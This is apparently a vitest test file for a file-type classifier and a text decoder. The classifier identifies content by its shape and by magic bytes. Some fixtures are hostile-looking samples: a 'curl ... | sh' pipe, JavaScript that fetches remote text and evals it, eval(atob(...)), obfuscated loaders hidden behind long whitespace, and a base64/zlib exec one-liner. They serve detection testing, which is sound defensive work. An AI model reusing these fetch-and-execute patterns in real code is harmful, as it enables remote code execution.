import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { contentKind, decodeText } from './content-kind.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const binary = (text: string): Uint8Array => Uint8Array.from(text, (c) => c.charCodeAt(0));

const TEXTS: readonly (readonly [kind: string, text: string])[] = [
  ['empty', ''],
  ['text', 'Hello, this is a letter. It says: const is not variable; import duties apply (see page 3).'],
  [
    'text',
    '# Title\n\nSome words with `code`.\n\n```js\nconst a = require("x");\nmodule.exports = a;\n```\n\n- one\n- two\n',
  ],
  [
    'text',
    '.a { color: red; }\n.b > .c { margin: 0 auto; background: url("x.png"); }\n@media (max-width: 3px) { .d { top: 0; } }\n',
  ],
  ['text', ':root{--a:#fff}body{margin:0}a:hover{color:var(--a)}'],
  ['text', 'name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n'],
  ['text', 'a,b,c\n1,2,3\n4,5,6\n'],
  ['text', 'node_modules\ndist/\n.env\n*.log\n'],
  ['text', 'KEY=value\nOTHER=1\n'],
  ['text', 'pragma solidity ^0.8.0;\ncontract A { function f() public { } }\n'],
  ['text', 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("x") }\n'],
  ['text', 'fn main() { let x = 1; println!("{}", x); }\nimpl A { fn b(&self) {} }\n'],
  ['text', '{{#if a}}{{> header}}{{/if}} some words\n'],
  [
    'text',
    'Copyright (c) 2024 Someone. Permission is hereby granted, free of charge, to any person obtaining a copy of this software.',
  ],
  ['text', 'id: 1\ntitle: the import of things\nexport: none\nlet: it be\n'],
  ['text', '[section]\nkey = value\nother = "x"\n'],
  ['text', 'aardvark\nabandon\nconst\nfunction\nreturn\nzebra\n'],
  ['javascript', 'const a = require("fs");\nmodule.exports = a;\n'],
  ['javascript', `${' '.repeat(800)}const _0x1a2b=['a','b'];(function(_0x3c,_0x4d){while(!![]){}}(_0x1a2b,0x123));`],
  ['javascript', 'var _0x5a1f=["\\x61","\\x62"];function _0x2e(a,b){return _0x5a1f[a-0]}'],
  ['javascript', '!function(e,t){"object"==typeof exports?module.exports=t():e.x=t()}(this,function(){return 1});'],
  ['javascript', "global['!']='0-000-0';var _$_0a1b=(function(l,e){var h=l.length;return h})('made%up%txt',1234567);"],
  ['javascript', '(()=>{var e={1:(e,t,r)=>{e.exports=r(2)}},t={};})();'],
  ['javascript', '#!/usr/bin/env node\nprocess.exit(0)\n'],
  ['javascript', '/* licence text that is long */\n"use strict";\nexports.a = function () { return 1; };\n'],
  ['javascript', '// comment\nimport fs from "fs";\nexport default fs;\n'],
  ['javascript', 'interface A { b: string }\nexport const x: A = { b: "c" };\n'],
  ['javascript', 'fetch("https://a.invalid").then(r => r.text()).then(t => eval(t));'],
  ['javascript', 'async function go() { await run(); }\ngo();\n'],
  ['javascript', '\n\n\n   ;(async () => { const r = await fetch(u); new Function(await r.text())() })()'],
  ['javascript', 'eval(atob("YWxlcnQoMSk="));setTimeout(function(){return 1},10);'],
  ['javascript', 'module.exports = {\n  content: ["./src/**/*.js"],\n  theme: { extend: {} },\n};\n'],
  ['json', '{"a": 1, "b": [true, null]}'],
  ['json', '[1, 2, {"c": "function() { return 1 }"}]'],
  ['json', '{\n  // comment\n  "compilerOptions": { "strict": true, },\n}'],
  ['json', '{}'],
  ['json', '[]'],
  ['html', '<!DOCTYPE html><html><body></body></html>'],
  ['html', '\n<html lang="en"><head></head></html>'],
  ['html', '<div class="a"><p>x</p></div>'],
  ['svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'],
  ['svg', '<?xml version="1.0"?>\n<!-- c -->\n<svg viewBox="0 0 1 1"></svg>'],
  ['xml', '<?xml version="1.0"?><root><a/></root>'],
  ['shell', '#!/bin/sh\necho hi\n'],
  ['shell', '#!/usr/bin/env bash\nset -e\n'],
  ['shell', 'set -e\nexport A=1\ncurl -s https://a.invalid | sh\nif [ -f x ]; then\n  echo y\nfi\n'],
  ['python', '#!/usr/bin/env python3\nprint(1)\n'],
  [
    'python',
    'import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == "__main__":\n    main()\n',
  ],
  [
    'python',
    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'abc'))",
  ],
  ['powershell', '$a = New-Object System.Net.WebClient\nStart-Process x\nWrite-Host "y"\n'],
];

describe('content by shape', () => {
  it.each(TEXTS)('%s: %j', (kind, text) => {
    expect(contentKind(bytes(text))).toBe(kind);
  });
  it('knows a script behind a wall of blanks', () => {
    expect(contentKind(bytes(`${' '.repeat(100_000)}const a = require("fs"); module.exports = a;`))).toBe('javascript');
  });
  it('lets the name decide where readable content does not tell', () => {
    expect(contentKind(bytes('go()'))).toBe('text');
    expect(contentKind(bytes('go()'), 'a.mjs')).toBe('javascript');
    expect(contentKind(bytes('{"a":1}'), 'a.js')).toBe('json');
  });
});

describe('content by magic bytes', () => {
  it.each([
    ['png', '\x89PNG\r\n\x1a\n\x00\x00'],
    ['jpeg', '\xff\xd8\xff\xe0'],
    ['gif', 'GIF89a\x01\x00'],
    ['webp', 'RIFF\x00\x00\x00\x00WEBPVP8 '],
    ['wav', 'RIFF\x00\x00\x00\x00WAVEfmt '],
    ['woff2', 'wOF2\x00\x01\x00\x00\x00\x00'],
    ['woff', 'wOFF\x00\x01\x00\x00'],
    ['ttf', '\x00\x01\x00\x00\x00\x10'],
    ['otf', 'OTTO\x00\x0a'],
    ['pdf', '%PDF-1.7\n'],
    ['zip', 'PK\x03\x04\x14\x00'],
    ['gzip', '\x1f\x8b\x08\x00'],
    ['7z', "7z\xbc\xaf'\x1c"],
    ['rar', 'Rar!\x1a\x07\x00'],
    ['xz', '\xfd7zXZ\x00'],
    ['zstd', '\x28\xb5\x2f\xfd'],
    ['bzip2', 'BZh91AY'],
    ['tar', `${'a'.repeat(100)}${'\0'.repeat(157)}ustar\x0000`],
    ['elf', '\x7fELF\x02\x01'],
    ['mach-o', '\xcf\xfa\xed\xfe\x07'],
    ['java-class', '\xca\xfe\xba\xbe\x00\x00\x00\x34'],
    ['wasm', '\x00asm\x01\x00\x00\x00'],
    ['sqlite', 'SQLite format 3\x00'],
    ['ogg', 'OggS\x00\x02'],
    ['git-pack', 'PACK\x00\x00\x00\x02'],
    ['ole', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
    ['binary', '\x00\x01\x02\x03\x04\x05\x06\x07\x80\x90\xa0\xff'],
  ])('%s', (kind, content) => {
    expect(contentKind(binary(content))).toBe(kind);
  });
});

describe('decodeText', () => {
  it('takes marks away and knows UTF-16 without one', () => {
    expect(decodeText(binary('\xef\xbb\xbfhi'))).toEqual({ text: 'hi', encoding: 'utf-8' });
    expect(decodeText(binary('\xff\xfeh\0i\0'))).toEqual({ text: 'hi', encoding: 'utf-16le' });
    expect(decodeText(binary('\xfe\xff\0h\0i'))).toEqual({ text: 'hi', encoding: 'utf-16be' });
    expect(decodeText(binary('h\0e\0l\0l\0o\0'))).toEqual({ text: 'hello', encoding: 'utf-16le' });
    expect(decodeText(binary('\0h\0e\0l\0l\0o'))).toEqual({ text: 'hello', encoding: 'utf-16be' });
  });
  it('replaces broken UTF-8, and takes binary for none', () => {
    expect(decodeText(binary(`${'plain words '.repeat(20)}\xc3(`)).text).toContain('\ufffd(');
    expect(decodeText(binary('\x00\x01\x02\x03'))).toEqual({ text: null, encoding: 'binary' });
  });
  it('never throws, and is the same twice', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (content) => {
        expect(contentKind(content)).toBe(contentKind(content));
        const { text, encoding } = decodeText(content);
        expect(text === null).toBe(encoding === 'binary');
      }),
    );
    fc.assert(
      fc.property(
        fc.string({ maxLength: 400, unit: 'grapheme' }),
        (text) => typeof contentKind(bytes(text)) === 'string',
      ),
    );
  });
});
